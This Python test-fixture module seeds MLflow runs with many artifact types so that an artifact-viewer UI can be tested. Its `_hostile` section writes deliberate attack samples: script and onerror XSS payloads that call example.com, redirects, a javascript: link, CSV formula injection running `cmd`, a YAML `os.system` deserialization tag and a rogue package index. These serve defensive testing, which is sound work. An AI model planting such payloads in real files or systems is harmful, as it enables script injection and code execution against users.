"""The artifacts; `tests/ui/seed.py` says in which runs.

`every-kind`:

* `images/`: `plot.png` (400 x 300), `photo.jpg`, `drawing.svg`, `moving.gif`, `icon.webp`,
  `pixels.png` (8 x 8)
* `tables/`: `rows.csv` (1000 rows; quotes, line breaks, empty cells), `wide.csv` (200 columns),
  `rows.tsv`, `frame.parquet` (1000 rows; int, float, str, bool, date, null), `table.json` (from
  `log_table`), `big.csv` (100 000 rows, 5 MB)
* `data/`: `config.json`, `config.yaml`, `lines.jsonl`, `broken.json`, `deep.json` (60 levels)
* `text/`: `readme.md`, `notes.txt`, `train.log` (2000 lines), `script.py`, `latin1.txt` (not
  UTF-8), `one-line.txt` (300 000 characters)
* `pages/`: `report.html`, `figure.html` (plotly), `paper.pdf`
* `media/`: `tone.wav` (1 s), `clip.webm` (2 s)
* `other/`: `places.geojson`, `random.bin` (4 KiB), `empty.txt`, `empty.bin`, `no-extension`
* `deeply/nested/folder/with/one.txt`, `many/000.txt` … `199.txt`
* a series of images `loss landscape`, logged by `log_image(key=…)` at steps 0, 10, … 90

`hostile`: files that try to run something or send something. Every script sets `window.pwned` or
asks `https://example.com/`: `script.html`, `script.svg`, `script.md`, `formula.csv`, `evil model/`
(`MLmodel` with YAML tags and markup, `requirements.txt`), `table.json` with markup in its cells,
`disguised.png` (HTML), `disguised.txt.html`, and files with ugly names in `names/` (`UGLY_NAMES`).

`big`: `big.log`, 100 MiB in lines of 64 characters that begin with their number;
`sized/` with files of 1, 300 000 and 3 000 000 bytes.

`image-series` of `vision/churn` has a series of images too: `samples`, steps 0 to 9.
"""

from __future__ import annotations

import csv
import io
import json
import math
import random
import struct
import tempfile
import wave
from pathlib import Path
from typing import TYPE_CHECKING

from mlflow import MlflowClient

if TYPE_CHECKING:
    from tests.ui.seed import Seed

UGLY_NAMES = (
    "with space.txt",
    "quo'te\".txt",
    "ünï-日本-🚀.txt",
    "hash#and?query%20&amp.txt",
    "<b>bold<b>.txt",
    "semi;colon,comma=plus+.txt",
    "..dots...txt",
)

_MINUTE = 60_000
_SCRIPT = "<script>window.pwned='{0}';fetch('https://example.com/{0}')</script>"
_IMG = '<img src="https://example.com/{0}.png" onerror="window.pwned=\'{0}\'">'


def log(client: MlflowClient, seed: Seed) -> None:
    """All files."""
    runs = {}
    for i, name in enumerate(("every-kind", "same-kinds", "hostile", "big")):
        start = seed.now - (200 - i) * _MINUTE
        tags = {"mlflow.user": "ann"}
        run = client.create_run(seed.experiments["vision/files"], start, tags, name)
        runs[name] = run.info.run_id
    seed.runs |= runs
    for i, name in enumerate(("every-kind", "same-kinds")):
        with tempfile.TemporaryDirectory() as made:
            _every_kind(Path(made), i)
            client.log_artifacts(runs[name], made)
        _through_the_sdk(client, runs[name], i)
    with tempfile.TemporaryDirectory() as made:
        _hostile(Path(made))
        client.log_artifacts(runs["hostile"], made)
    markup = {"a": [_IMG.format("cell"), "=1+1"], "<b>b</b>": [_SCRIPT.format("cell2"), None]}
    client.log_table(runs["hostile"], markup, "table.json")
    with tempfile.TemporaryDirectory() as made:
        _big(Path(made))
        client.log_artifacts(runs["big"], made)
    for step in range(10):
        client.log_image(
            seed.runs["image-series"], _picture(64, 48, step), key="samples", step=step
        )
    for i, run in enumerate(runs.values()):
        client.set_terminated(run, end_time=seed.now - (190 - i) * _MINUTE)


def _picture(width: int, height: int, phase: float):
    """Coloured waves that depend on `phase`."""
    import numpy as np

    y, x = np.mgrid[0:height, 0:width]
    waves = [np.sin(x / width * 9 + phase), np.cos(y / height * 7 - phase), np.sin((x + y) / 40)]
    return ((np.stack(waves, -1) + 1) * 127).astype("uint8")


def _every_kind(root: Path, other: int) -> None:
    for part in (_images, _tables, _data, _text, _pages, _media, _others):
        part(root, other)


def _images(root: Path, other: int) -> None:
    from PIL import Image

    folder = root / "images"
    folder.mkdir()
    Image.fromarray(_picture(400, 300, other)).save(folder / "plot.png")
    Image.fromarray(_picture(640, 480, 2 + other)).save(folder / "photo.jpg")
    Image.fromarray(_picture(64, 64, other)).save(folder / "icon.webp")
    Image.fromarray(_picture(8, 8, other)).save(folder / "pixels.png")
    frames = [Image.fromarray(_picture(80, 60, i / 2)) for i in range(8)]
    frames[0].save(folder / "moving.gif", save_all=True, append_images=frames[1:], duration=100)
    (folder / "drawing.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 60" width="200" height="120">'
        f'<rect width="100" height="60" fill="#eee"/><circle cx="50" cy="30" r="{20 + other}" '
        'fill="#3b6fd4"/><text x="50" y="34" text-anchor="middle" font-size="10">svg</text></svg>'
    )


def _rows(count: int, other: int) -> list[list]:
    rng = random.Random(5 + other)
    cities = ("Zürich", "New York", 'The "Hague"', "Oslo, Norway", "two\nlines", "")
    return [[i, cities[i % 6], round(rng.gauss(0, 1), 6), i % 7 == 0] for i in range(count)]


def _csv(file: Path, head: list[str], rows: list[list], delimiter: str = ",") -> None:
    with open(file, "w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f, delimiter=delimiter)
        writer.writerow(head)
        writer.writerows(rows)


def _tables(root: Path, other: int) -> None:
    import pandas as pd

    folder = root / "tables"
    folder.mkdir()
    head, rows = ["id", "city", "score", "left"], _rows(1000, other)
    _csv(folder / "rows.csv", head, rows)
    _csv(folder / "rows.tsv", head, rows, "\t")
    _csv(folder / "wide.csv", [f"c{i}" for i in range(200)], [list(range(200))] * 20)
    if not other:
        _csv(
            folder / "big.csv", ["id", "value", "text"], [[i, i / 7, "row"] for i in range(100_000)]
        )
    frame = pd.DataFrame(rows, columns=head)
    frame["day"] = pd.date_range("2024-01-01", periods=1000, freq="h")
    frame["maybe"] = [None if i % 3 else i * 1.5 for i in range(1000)]
    frame.to_parquet(folder / "frame.parquet")


def _data(root: Path, other: int) -> None:
    folder = root / "data"
    folder.mkdir()
    settings = {"model": {"layers": [64, 32], "dropout": 0.1 + other}, "seed": None, "ünï": True}
    (folder / "config.json").write_text(json.dumps(settings, indent=2))
    (folder / "config.yaml").write_text(
        "model:\n  layers: [64, 32]\n  dropout: 0.1\nseed: null  # none\nname: 'churn'\n"
    )
    (folder / "lines.jsonl").write_text("".join(f'{{"i": {i}, "ok": true}}\n' for i in range(50)))
    (folder / "broken.json").write_text('{"model": {"layers": [64, 32')
    (folder / "deep.json").write_text('{"a":' * 60 + "1" + "}" * 60)


def _text(root: Path, other: int) -> None:
    folder = root / "text"
    folder.mkdir()
    (folder / "readme.md").write_text(
        "# Read me\n\nSome *text*, a [link](notes.txt):\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    (folder / "notes.txt").write_text("first line\n\tindented\nünïcode 日本 🚀\n<b>not bold</b>\n")
    lines = (
        f"2024-05-01 12:{i // 60 % 60:02}:{i % 60:02} {'WARNING' if i % 97 == 0 else 'INFO'} "
        f"step {i} loss {2 / (i + 1 + other):.5f}\n"
        for i in range(2000)
    )
    (folder / "train.log").write_text("".join(lines))
    (folder / "script.py").write_text("def main() -> None:\n    print('hello')\n\n\nmain()\n")
    (folder / "latin1.txt").write_bytes("caf\xe9 cr\xe8me\n".encode("latin-1"))
    (folder / "one-line.txt").write_text("0123456789" * 30_000)


def _pages(root: Path, other: int) -> None:
    from PIL import Image

    folder = root / "pages"
    folder.mkdir()
    (folder / "report.html").write_text(
        "<!doctype html><title>Report</title><h1>Report</h1><p id=p>Written by hand.</p>"
        "<script>document.getElementById('p').textContent = 'Written by a script.'</script>"
    )
    Image.fromarray(_picture(300, 400, other)).save(folder / "paper.pdf")


def _media(root: Path, other: int) -> None:
    folder = root / "media"
    folder.mkdir()
    with wave.open(str(folder / "tone.wav"), "wb") as sound:
        sound.setparams((1, 2, 8000, 8000, "NONE", ""))
        pitch = math.tau * (440 + 110 * other) / 8000
        samples = (int(9000 * math.sin(i * pitch)) for i in range(8000))
        sound.writeframes(b"".join(struct.pack("<h", s) for s in samples))
    (folder / "clip.webm").write_bytes(webm([_picture(160, 120, i / 3) for i in range(20)], 100))


def _others(root: Path, other: int) -> None:
    folder = root / "other"
    folder.mkdir()
    point = {"type": "Point", "coordinates": [8.54, 47.37 + other]}
    feature = {"type": "Feature", "geometry": point, "properties": {"name": "Zürich"}}
    places = {"type": "FeatureCollection", "features": [feature]}
    (folder / "places.geojson").write_text(json.dumps(places))
    (folder / "random.bin").write_bytes(random.Random(6).randbytes(4096))
    (folder / "empty.txt").touch()
    (folder / "empty.bin").touch()
    (folder / "no-extension").write_text("plain text without an extension\n")
    nested = root / "deeply/nested/folder/with"
    nested.mkdir(parents=True)
    (nested / "one.txt").write_text("found\n")
    if not other:
        (root / "many").mkdir()
        for i in range(200):
            (root / f"many/{i:03}.txt").write_text(f"{i}\n")


def _through_the_sdk(client: MlflowClient, run: str, other: int) -> None:
    """What the SDK gives a form of its own."""
    import plotly.graph_objects as go

    table = {
        "prompt": [f"question {i}" for i in range(30)],
        "answer": [f"answer {i + other}, with a longer text " * 4 for i in range(30)],
        "score": [i / 30 for i in range(30)],
    }
    client.log_table(run, table, "tables/table.json")
    for step in range(0, 100, 10):
        picture = _picture(96, 64, step / 10 + other)
        client.log_image(run, picture, key="loss landscape", step=step)
    if not other:
        figure = go.Figure(go.Scatter(x=[1, 2, 3], y=[4, 1, 9]))
        client.log_figure(run, figure, "pages/figure.html")


def _hostile(root: Path) -> None:
    (root / "script.html").write_text(
        f"<h1>Hostile</h1>{_SCRIPT.format('html')}{_IMG.format('html-img')}"
        "<form action=https://example.com/form><input name=q><button>go</button></form>"
        "<script>try { parent.pwned = 'html-parent' } catch (e) {}"
        "try { top.location = 'https://example.com/top' } catch (e) {}</script>"
        '<meta http-equiv="refresh" content="0;url=https://example.com/refresh">'
    )
    (root / "script.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40" '
        "onload=\"window.pwned='svg-onload'\"><script>window.pwned='svg';"
        "fetch('https://example.com/svg')</script><rect width='80' height='40' fill='red'/>"
        '<image href="https://example.com/svg.png"/></svg>'
    )
    (root / "script.md").write_text(
        f"# Hostile\n\n{_SCRIPT.format('md')}\n\n{_IMG.format('md-img')}\n\n"
        "[link](javascript:window.pwned='md-link') ![pixel](https://example.com/md.png)\n"
    )
    (root / "formula.csv").write_text(
        'name,value\n=cmd|\' /C calc\'!A0,1\n"=HYPERLINK(""https://example.com/"")",2\n'
        f'"{_IMG.format("csv").replace(chr(34), chr(34) * 2)}",3\n@SUM(1),+1-1\n'
    )
    model = root / "evil model"
    model.mkdir()
    (model / "MLmodel").write_text(
        "artifact_path: \"<img src=x onerror=window.pwned='mlmodel'>\"\n"
        "flavors:\n  python_function:\n    loader_module: os\n"
        "    evil: !!python/object/apply:os.system ['touch pwned']\n"
        "  <b>flavor</b>: {data: *nowhere}\n"
        'signature:\n  inputs: \'[{"name": "<script>window.pwned=1</script>", "type": "x"}]\'\n'
    )
    (model / "requirements.txt").write_text("--index-url https://example.com/simple\nevil==1\n")
    (root / "disguised.png").write_text(f"<html>{_SCRIPT.format('png')}</html>")
    (root / "disguised.txt.html").write_text(_SCRIPT.format("txt-html"))
    names = root / "names"
    names.mkdir()
    for i, name in enumerate(UGLY_NAMES):
        (names / name).write_text(f"ugly name {i}\n")


def _big(root: Path) -> None:
    with open(root / "big.log", "wb") as f:
        line, lines = 0, 1 << 14
        while line < (100 << 20) // 64:
            f.write(b"".join(b"%08d %054d\n" % (n, n % 997) for n in range(line, line + lines)))
            line += lines
    (root / "sized").mkdir()
    for size in (1, 300_000, 3_000_000):
        (root / "sized" / f"{size}.txt").write_bytes((b"x" * 99 + b"\n") * (size // 100) or b"x")


def webm(pictures: list, milliseconds: int) -> bytes:
    """A WebM film of these arrays, each shown for so long. Every frame is a key frame: what a lossy
    WebP file holds is a frame of VP8."""
    from PIL import Image

    frames = []
    for picture in pictures:
        buffer = io.BytesIO()
        Image.fromarray(picture).save(buffer, "webp", quality=60)
        content = buffer.getvalue()
        at = content.index(b"VP8 ") + 4
        (size,) = struct.unpack_from("<I", content, at)
        frames.append(content[at + 4 : at + 4 + size])
    height, width = pictures[0].shape[:2]
    head = _element(
        0x1A45DFA3,
        _number(0x4286, 1) + _number(0x42F7, 1) + _number(0x42F2, 4) + _number(0x42F3, 8),
        _element(0x4282, b"webm") + _number(0x4287, 2) + _number(0x4285, 2),
    )
    length = struct.pack(">d", float(milliseconds * len(frames)))
    info = _element(0x1549A966, _number(0x2AD7B1, 1_000_000), _element(0x4489, length))
    size = _element(0xE0, _number(0xB0, width), _number(0xBA, height))
    track = _number(0xD7, 1) + _number(0x73C5, 1) + _number(0x83, 1) + _element(0x86, b"V_VP8")
    tracks = _element(0x1654AE6B, _element(0xAE, track, size))
    blocks = (
        _element(0xA3, struct.pack(">BhB", 0x81, i * milliseconds, 0x80), frame)
        for i, frame in enumerate(frames)
    )
    cluster = _element(0x1F43B675, _number(0xE7, 0), *blocks)
    return head + _element(0x18538067, info, tracks, cluster)


def _element(name: int, *content: bytes) -> bytes:
    """An element of EBML, the binary XML that WebM is made of."""
    body = b"".join(content)
    return _bytes(name) + struct.pack(">Q", 1 << 56 | len(body)) + body


def _number(name: int, value: int) -> bytes:
    return _element(name, _bytes(value))


def _bytes(value: int) -> bytes:
    return value.to_bytes(max(1, (value.bit_length() + 7) // 8), "big")
